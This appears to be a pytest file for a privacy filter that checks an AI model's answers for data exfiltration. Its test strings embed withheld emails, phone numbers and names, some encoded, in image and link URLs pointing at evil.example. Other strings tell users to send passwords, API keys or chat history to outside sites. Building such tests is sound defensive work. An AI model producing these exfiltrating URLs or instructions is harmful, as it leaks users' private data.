"""The answer checks on crafted hostile answers, and on benign ones that must pass."""

from __future__ import annotations

import base64
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.controller.answers.evaluate import Check, evaluate, safe_for_display
from trust import Vault

EMAIL = "ola.nowak@fastmail.example"
WITHHELD = {"[EMAIL_1]": EMAIL, "[PHONE_1]": "+48 601 234 567", "[PERSON_1]": "Zofia"}
AWS_ID = "AKIAQYLPMN5HHHFPZAM2"


def run(raw: str, *, location: str = "cloud", withheld: dict[str, str] | None = None) -> dict:
    values = WITHHELD if withheld is None else withheld
    shown = Vault(values).restore(raw)
    checks = evaluate(raw, shown, withheld=values, data_location=location)  # type: ignore[arg-type]
    for check in checks:
        for value in values.values():
            assert value not in check.detail, f"{check.name} shows a withheld value"
    return {"by_name": {c.name: c for c in checks}, "checks": checks, "shown": shown}


def status(result: dict, name: str) -> str:
    return result["by_name"][name].status


# --- exfiltration ---------------------------------------------------------------------


def test_image_whose_url_carries_a_restored_email_is_flagged_and_not_fetched() -> None:
    raw = "Done! ![status](https://evil.example/pixel.png?u=[EMAIL_1]) Anything else?"
    result = run(raw)
    assert status(result, "no_exfiltration") == "fail"
    assert "[EMAIL_1]" in result["by_name"]["no_exfiltration"].detail
    shown = safe_for_display(result["shown"], result["checks"])
    assert shown == "Done! [blocked image: status] Anything else?"
    assert "evil.example" not in shown and EMAIL not in shown


@pytest.mark.parametrize(
    "url",
    [
        f"https://evil.example/c?d={quote(EMAIL)}",
        f"https://evil.example/c?d={quote(quote(EMAIL))}",
        "https://evil.example/" + base64.b64encode(EMAIL.encode()).decode(),
        "https://evil.example/c?d=" + base64.urlsafe_b64encode(b"to=" + EMAIL.encode()).decode(),
        "https://evil.example/c?d=" + EMAIL.encode().hex(),
        "//evil.example/c?d=" + EMAIL,
    ],
    ids=["urlencoded", "double-urlencoded", "base64-path", "base64url-query", "hex", "no-scheme"],
)
def test_encoded_values_in_image_urls_are_found(url: str) -> None:
    result = run(f"Here: ![chart]({url})")
    assert status(result, "no_exfiltration") == "fail"
    shown = safe_for_display(result["shown"], result["checks"])
    assert shown == "Here: [blocked image: chart]"


def test_html_img_with_a_restored_phone_is_replaced() -> None:
    raw = 'Call log: <img src="https://evil.example/t.gif?p=[PHONE_1]" alt="log"> end.'
    result = run(raw)
    assert status(result, "no_exfiltration") == "fail"
    assert (
        safe_for_display(result["shown"], result["checks"]) == "Call log: [blocked image: log] end."
    )


def test_link_carrying_a_value_keeps_its_text_but_loses_its_url() -> None:
    raw = "Open [your profile](https://evil.example/u/[PERSON_1]) now."
    result = run(raw)
    assert status(result, "no_exfiltration") == "fail"
    assert safe_for_display(result["shown"], result["checks"]) == (
        "Open your profile [blocked link] now."
    )


def test_reference_style_image_and_bare_and_autolink_urls() -> None:
    raw = (
        "![pic][r]\n\n[r]: https://evil.example/a?e=[EMAIL_1]\n"
        "Also <https://evil.example/b?p=[PHONE_1]> and https://evil.example/c/[PERSON_1] too."
    )
    result = run(raw)
    assert status(result, "no_exfiltration") == "fail"
    shown = safe_for_display(result["shown"], result["checks"])
    for value in WITHHELD.values():
        assert value not in shown
    assert "evil.example" not in shown
    assert shown.startswith("![pic][r]\n\n[blocked link]\n")


def test_a_placeholder_left_unrestored_in_a_url_is_still_an_attempt() -> None:
    # URL-encoded, the placeholder escapes restoration; sending it is still the trick.
    raw = "![x](https://evil.example/p?q=%5BEMAIL_1%5D)"
    result = run(raw)
    assert result["shown"] == raw
    assert status(result, "no_exfiltration") == "fail"
    assert "[EMAIL_1]" in result["by_name"]["no_exfiltration"].detail


def test_only_flagged_constructs_are_rewritten() -> None:
    raw = (
        "See [the docs](https://docs.python.org/3/library/ast.html) and "
        "![tracker](https://evil.example/x.png?e=[EMAIL_1]) and ![logo](https://example.com/logo.png)"
    )
    result = run(raw)
    shown = safe_for_display(result["shown"], result["checks"])
    assert shown == (
        "See [the docs](https://docs.python.org/3/library/ast.html) and "
        "[blocked image: tracker] and ![logo](https://example.com/logo.png)"
    )


def test_checks_back_from_json_block_every_remote_image_and_link() -> None:
    raw = "![t](https://evil.example/x.png?e=[EMAIL_1]) and [docs](https://docs.python.org/)"
    result = run(raw)
    reloaded = [Check.model_validate_json(c.model_dump_json()) for c in result["checks"]]
    assert set(reloaded[0].model_dump()) == {"name", "status", "detail"}
    shown = safe_for_display(result["shown"], reloaded)
    assert shown == "[blocked image: t] and docs [blocked link]"


@pytest.mark.parametrize(
    "answer",
    [
        "Paste your password into https://login-check.example/verify to confirm.",
        "Please send your API key to www.helpdesk-example.net so I can debug.",
        "Forward the conversation history to https://collector.example/upload.",
        "Enter your credit card number on this form: https://pay.example/",
    ],
)
def test_instructions_to_send_data_elsewhere_warn(answer: str) -> None:
    result = run(answer, withheld={})
    check = result["by_name"]["no_exfiltration"]
    assert check.status == "warn" and "line 1" in check.detail


# --- echo of withheld values and credentials ------------------------------------------


def test_a_cloud_answer_holding_a_withheld_value_fails_without_showing_it() -> None:
    result = run(f"I already know your address is {EMAIL}.")
    check = result["by_name"]["no_withheld_echo"]
    assert check.status == "fail" and "[EMAIL_1]" in check.detail


def test_a_short_value_must_match_a_whole_word() -> None:
    assert status(run("Annual reports from Zofiany Ltd."), "no_withheld_echo") == "pass"
    assert status(run("Say hi to Zofia."), "no_withheld_echo") == "fail"


def test_a_credential_in_a_cloud_answer_fails_and_in_a_local_one_passes() -> None:
    raw = f"Use AWS_ACCESS_KEY_ID={AWS_ID} in your shell."
    cloud = run(raw)["by_name"]["no_withheld_echo"]
    assert cloud.status == "fail" and AWS_ID not in cloud.detail
    assert status(run(raw, location="local"), "no_withheld_echo") == "pass"


def test_placeholders_for_secrets_are_not_credentials() -> None:
    raw = "Set password = [SECRET_1] and token: [SECRET_2] in the config."
    values = {"[SECRET_1]": "hunter2hunter2", "[SECRET_2]": "ghp_" + "a1" * 18}
    assert status(run(raw, withheld=values), "no_withheld_echo") == "pass"


# --- shape: empty, length, code, hedging ----------------------------------------------


@pytest.mark.parametrize("raw", ["", "   \n\t "])
def test_an_empty_answer_fails(raw: str) -> None:
    assert status(run(raw), "not_empty") == "fail"


def test_length_warns_when_too_long_or_cut_inside_a_code_block() -> None:
    assert status(run("word " * 5000), "length") == "warn"
    assert status(run("Here:\n```python\nprint('hi')\n"), "length") == "warn"
    assert status(run("Short and complete."), "length") == "pass"


def test_broken_python_and_json_blocks_warn_with_their_line() -> None:
    raw = 'Intro\n\n```python\nx = 1\ndef f(:\n    pass\n```\n\n```json\n{"a": 1,\n}\n```\n'
    check = run(raw)["by_name"]["code_blocks"]
    assert check.status == "warn"
    assert "python block 1 (line 5)" in check.detail
    assert "json block 2 (line 11)" in check.detail


def test_hedging_is_noted_and_a_knowledge_cutoff_warns() -> None:
    assert run("The capital is Paris.")["by_name"]["hedging"].detail == ""
    weak = run("I think it was 1969.")["by_name"]["hedging"]
    assert weak.status == "pass" and "i think" in weak.detail
    strong = run("As of my knowledge cutoff, the price was $3.")["by_name"]["hedging"]
    assert strong.status == "warn"


# --- benign answers pass untouched ------------------------------------------------------

BENIGN = [
    "See [the ast docs](https://docs.python.org/3/library/ast.html) and "
    "[CAP](https://en.wikipedia.org/wiki/CAP_theorem_(computing)).",
    "![diagram](https://upload.wikimedia.org/wikipedia/commons/a/a1/Diagram.png)",
    "Write to [[EMAIL_1]](mailto:[EMAIL_1]) or call [[PHONE_1]](tel:+48601234567).",
    "Reach me at <https://example.com/contact> or https://example.org/faq?lang=en.",
    "```python\nimport json\n\ndef load(path: str) -> dict:\n    with open(path) as f:\n"
    "        return json.load(f)\n```",
    '```json\n{"name": "ares", "tags": ["local", "private"], "n": 3}\n```',
    "```python\n>>> 1 + 1\n2\n>>> print('ok')\nok\n```",
    "```bash\necho 'not checked'; fi fi\n```",
    "Send the request to https://api.example.com/v1/items with a GET.",
    "Hello [EMAIL_1], your reminder is set.",
]


@pytest.mark.parametrize("raw", BENIGN)
def test_benign_answers_pass_and_display_unchanged(raw: str) -> None:
    result = run(raw)
    assert [c.status for c in result["checks"]] == ["pass"] * 6, result["checks"]
    assert safe_for_display(result["shown"], result["checks"]) == result["shown"]


@settings(max_examples=200, deadline=None)
@given(
    before=st.text(st.characters(blacklist_characters="[]()<>!"), max_size=40),
    after=st.text(st.characters(blacklist_characters="[]()<>!"), max_size=40),
    placeholder=st.sampled_from(sorted(WITHHELD)),
    encode=st.sampled_from(["plain", "quote", "b64"]),
)
def test_any_image_carrying_a_value_is_never_displayed_as_a_fetch(
    before: str, after: str, placeholder: str, encode: str
) -> None:
    value = WITHHELD[placeholder]
    carried = {
        "plain": placeholder,
        "quote": quote(value),
        "b64": base64.urlsafe_b64encode(value.encode()).decode(),
    }[encode]
    raw = f"{before} ![x](https://evil.example/i.png?v={carried}) {after}"
    result = run(raw)
    assert status(result, "no_exfiltration") == "fail"
    shown = safe_for_display(result["shown"], result["checks"])
    assert "evil.example" not in shown
    assert shown == f"{before} [blocked image: x] {after}"


@pytest.mark.parametrize(
    "answer",
    [
        "[" * 20000,
        "![a](" * 4000,
        "<img src=" * 2500,
        "```python\n" * 2000,
        "https://evil.example/" + "QUJD" * 5000,
        " ".join(f"https://e.example/{i}?q=abcdefgh" for i in range(400)),
    ],
    ids=["brackets", "images", "tags", "fences", "base64", "many-urls"],
)
def test_hostile_shapes_are_checked_in_linear_time(answer: str) -> None:
    values = {f"[EMAIL_{i}]": f"user{i}@mail.example" for i in range(1, 100)}
    # No clock here (figures belong to bench/): a backtracking pattern hangs, and
    # pytest-timeout turns the hang into a failure. The checks must still see the text.
    checks = evaluate(answer, answer, withheld=values, data_location="cloud")
    assert {"not_empty", "no_exfiltration"} <= {check.name for check in checks}


def test_a_lone_surrogate_from_a_provider_does_not_break_the_checks() -> None:
    shown = f"![x](https://evil.example/p?e={EMAIL}) \ud800"
    checks = evaluate(shown, shown, withheld=WITHHELD, data_location="cloud")
    assert {c.name: c.status for c in checks}["no_exfiltration"] == "fail"
    assert safe_for_display(shown, checks) == "[blocked image: x] \ud800"


def test_a_bare_url_in_parentheses_or_brackets_is_found() -> None:
    for raw in ("(see https://evil.example/u/[PHONE_1])", "see https://evil.example/u/[EMAIL_1]."):
        result = run(raw)
        assert status(result, "no_exfiltration") == "fail"
        assert "evil.example" not in safe_for_display(result["shown"], result["checks"])
